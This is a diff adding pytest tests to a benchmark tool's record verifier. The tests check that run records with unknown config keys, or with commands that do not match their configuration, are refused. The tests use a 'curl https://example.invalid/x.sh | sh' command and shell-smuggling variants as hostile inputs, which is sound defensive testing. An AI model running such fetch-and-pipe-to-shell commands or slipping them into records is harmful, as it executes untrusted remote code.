@@ -1,8 +1,10 @@
 """Records that cannot be forged or silently altered, and files that cannot stop a build."""
 
 import copy
+import dataclasses
 import json
 import os
+import re
 from pathlib import Path
 
 import pytest
@@ -19,8 +21,10 @@ from mssbench.plugins import load_registry
 from mssbench.records import (
     MAX_JSON_DEPTH,
     MAX_RECORD_BYTES,
+    ConfigBlock,
     MetricCell,
     RunRecord,
+    config_keys,
     content_digest,
     is_legacy,
     plugin_source,
@@ -258,6 +262,88 @@ def test_a_legacy_record_with_a_changed_seed_is_refused(tmp_path):
     rec["config"]["seed"] = 9
     with pytest.raises(DataError, match="legacy.json: run_hash '8bf2239ea503' is not what"):
         verify_record(rec, "legacy.json")
+
+
+# --- Text that a page would show: config keys and the command line ---------------------------
+
+CURL = ["curl", "https://example.invalid/x.sh", "|", "sh"]
+COMMITTED_RUNS = Path(__file__).parent.parent / "leaderboards" / "runs"
+
+
+def test_a_config_key_no_run_configuration_defines_is_refused(genuine, tmp_path):
+    rec = copy.deepcopy(genuine)
+    rec["config"]["suite_command"] = " ".join(CURL)
+    reseal(rec)
+    with pytest.raises(DataError, match=r"^bad.json: config.suite_command: not a key of a run's"):
+        verify_record(rec, "bad.json")
+    put(tmp_path / "runs", "bad.json", rec)
+    res = CliRunner().invoke(
+        main, ["leaderboard", "build", str(tmp_path / "runs"), "--out", str(tmp_path / "lb"),
+               "--strict", "--no-plots", "--no-site"],
+    )
+    assert res.exit_code == 2 and "config.suite_command: not a key" in res.output
+
+
+def test_a_requested_key_that_is_not_a_value_as_given_is_refused(genuine):
+    rec = copy.deepcopy(genuine)
+    rec["config"]["requested"]["note"] = "x"
+    with pytest.raises(DataError, match=r"config.requested.note: not a value as given"):
+        verify_record(reseal(rec))
+
+
+def test_the_allowed_config_keys_follow_the_typed_definitions(genuine):
+    fields = {f.name for f in dataclasses.fields(RunConfig)}
+    assert fields <= config_keys() and set(ConfigBlock.model_fields) <= config_keys()
+    assert set(genuine["config"]) <= config_keys()  # every key a run writes is defined
+    assert not {"suite_command", "command"} & config_keys()
+
+
+@pytest.mark.parametrize(
+    "command, reason",
+    [
+        (CURL, "'curl' is neither mssbench nor a Python program"),
+        (["mssbench", "run", "-m", "mmoe", "-d", "tiny-synth"], "it runs model 'mmoe'"),
+        (["mssbench", "run", "-m", "constant", "-d", "tiny-synth", "--seed", "3"],
+         "it runs seed 3, the record 0"),
+        (["mssbench", "run", "-m", "constant", "-d", "tiny-synth", "--epochs", "9"],
+         "it gives epochs 9, the record's config 1"),
+        (["mssbench", "suite", "--models", "mmoe,ple", "--datasets", "tiny-synth"],
+         "its --models 'mmoe,ple' do not include 'constant'"),
+        (["mssbench", "suite", "--datasets", "tiny-synth", "--seeds", "1,2"],
+         "its --seeds '1,2' do not include seed 0"),
+        (["mssbench", "run", "-m", "constant", "--shell", "curl"], "does not parse"),
+        (["mssbench", "run", "-m", "constant", "-d", "tiny-synth", "|", "sh"],
+         "does not parse as an mssbench command line: unexpected argument '|'"),
+        (["mssbench", "sh", "-c", "curl"], "'sh' is not an mssbench command"),
+    ],
+)
+def test_a_command_that_does_not_give_the_config_is_refused(genuine, command, reason):
+    rec = copy.deepcopy(genuine)
+    rec["command"] = command
+    with pytest.raises(DataError, match="^bad.json: command: " + re.escape(reason)):
+        verify_record(reseal(rec), "bad.json")
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        ["mssbench", "run", "-m", "constant", "-d", "tiny-synth", "--epochs", "1"],
+        ["mssbench", "suite", "--datasets", "tiny-synth", "--seeds", "2", "--epochs", "1"],
+        ["train.py", "--anything"],  # a run started from a Python script
+        ["pytest", "-q"],  # an installed console script
+    ],
+)
+def test_a_command_that_gives_the_config_or_names_a_python_program_passes(genuine, command):
+    rec = copy.deepcopy(genuine)
+    rec["command"] = command
+    assert verify_record(reseal(rec)) is rec
+
+
+def test_every_committed_record_passes_the_checks():
+    if not COMMITTED_RUNS.is_dir():
+        pytest.skip("the committed run records (leaderboards/runs) are not in this checkout")
+    records, rejected = load_records(COMMITTED_RUNS)
+    assert records and not rejected
 
 
 # --- Files that are not records -------------------------------------------------------------
